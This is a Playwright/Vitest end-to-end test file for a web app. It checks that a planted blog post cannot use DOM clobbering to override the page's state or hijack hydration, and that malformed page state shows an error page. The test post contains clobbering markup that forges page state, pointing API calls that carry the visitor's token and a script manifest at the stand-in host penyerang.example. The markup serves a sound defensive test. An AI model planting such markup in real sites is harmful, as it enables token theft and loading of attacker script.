import type { Browser } from "playwright";
import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
import { fetchAs } from "../support/pageWeight.mjs";
import { plantPost } from "../support/plantPost.js";
import { connectBrowser, settled, waitForHydration, watchPage } from "../support/browser.js";
import { builtServerPort } from "../support/builtServerPort.js";

const port = builtServerPort();
const dataDir = inject("serverDataDir");
const origin = `http://demo.localhost:${port}`;
const CLOBBER_ID = 990101;

/** A forged state that would send every API call, with the visitor's token, to another host. */
const FORGED_STATE = JSON.stringify({
  settings: { id: "demo" },
  layout: { routes: [], routesUrl: "/_layout/x.json" },
  baseUrls: Object.fromEntries(
    ["main", "services", "mailer", "authorizer", "account", "drive", "remoteTables"].map((role) => [role, "http://penyerang.example/"]),
  ),
  styledBlocks: [],
  queries: { queries: [], mutations: [] },
  router: { loaderData: {}, errors: null },
});

/** Shapes that shadow the page's own elements by id or name (DOM clobbering). */
const CLOBBERING_CONTENT = [
  "<h2>Pos yang mencoba menimpa status halaman</h2>",
  `<div id="__PAGE_STATE__">${FORGED_STATE}</div>`,
  `<pre id="__PAGE_SCRIPTS__">{"entry":"http://penyerang.example/x.js","modules":["http://penyerang.example/x.js"]}</pre>`,
  '<img name="__PAGE_STATE__" src="/_platform/media/cover/kelas.svg" alt="">',
  '<a id="root" href="http://penyerang.example/">root</a>',
  '<form name="cookie"><input name="body"></form>',
  "<p>Penutup.</p>",
].join("");

let browser: Browser;
beforeAll(async () => {
  plantPost(dataDir, {
    id: CLOBBER_ID,
    slug: "pos-penimpa",
    title: "Pos penimpa status",
    summary: "Uji DOM clobbering",
    content: CLOBBERING_CONTENT,
    publishedAt: "2026-11-21T09:00:00+07:00",
  });
  browser = await connectBrowser();
});
afterAll(async () => browser?.close());

describe("the page state", () => {
  it("cannot be shadowed by a post's markup: the page hydrates and no request leaves the site", async () => {
    const context = await browser.newContext();
    await context.addCookies([{ name: "access_token", value: "token-rahasia-pengunjung", url: origin }]);
    const page = await context.newPage();
    const watch = watchPage(page);
    const foreign: string[] = [];
    page.on("request", (request) => {
      if (new URL(request.url()).host !== new URL(origin).host) foreign.push(request.url());
    });
    const response = await page.goto(`${origin}/News/${CLOBBER_ID}/pos-penimpa`);
    const served = await response!.text();
    const article = served.slice(served.indexOf("article-content"), served.indexOf("</article>"));
    expect(article).toContain("Pos yang mencoba menimpa status halaman");
    expect(article).toContain('id="user-content-__PAGE_STATE__"');
    expect(article).not.toMatch(/ (id|name)="(?!user-content-)/);
    await waitForHydration(page);
    await expect.poll(() => page.locator("h1").textContent()).toBe("Pos penimpa status");
    // The page works on: a client navigation loads its data from the site's own platform.
    await page.locator('a[href="/Class"]').first().click();
    await page.waitForURL(`${origin}/Class`);
    // The class list's data has come (from wherever it came), and the page has settled.
    await expect.poll(() => page.locator("[data-class-state]").count()).toBeGreaterThan(0);
    await settled(page);
    expect(foreign).toEqual([]);
    expect(watch.errors.filter((error) => !error.includes("favicon"))).toEqual([]);
    await context.close();
  });

  it("that is malformed shows the error-page failure instead of crashing", async () => {
    const page = await browser.newPage();
    // The page as the server sends it, its state replaced by `{}`. Fetched without a navigation: a text
    // document opened first made the browser ask for /favicon.ico, whose 404 could reach the watch below.
    const served = (await fetchAs(`http://127.0.0.1:${port}`, `demo.localhost:${port}`, "/News")).body.toString("utf8");
    const html = served.replace(/(<script id="__PAGE_STATE__" type="application\/json">)[\s\S]*?(<\/script>)/, "$1{}$2");
    expect(html).toContain('<script id="__PAGE_STATE__" type="application/json">{}</script>');
    await page.route(`${origin}/News`, (route) => route.fulfill({ status: 200, contentType: "text/html; charset=utf-8", body: html }));
    const watch = watchPage(page);
    await page.goto(`${origin}/News`);
    await expect.poll(() => page.locator("[data-error-page-failure]").count()).toBe(1);
    expect(watch.errors).toEqual([`pageerror: The page's #__PAGE_STATE__ is malformed: settings.id: expected a string`]);
    expect(await page.locator("[data-error-page-failure] pre").textContent()).toContain("settings.id: expected a string");
    await page.close();
  });
});
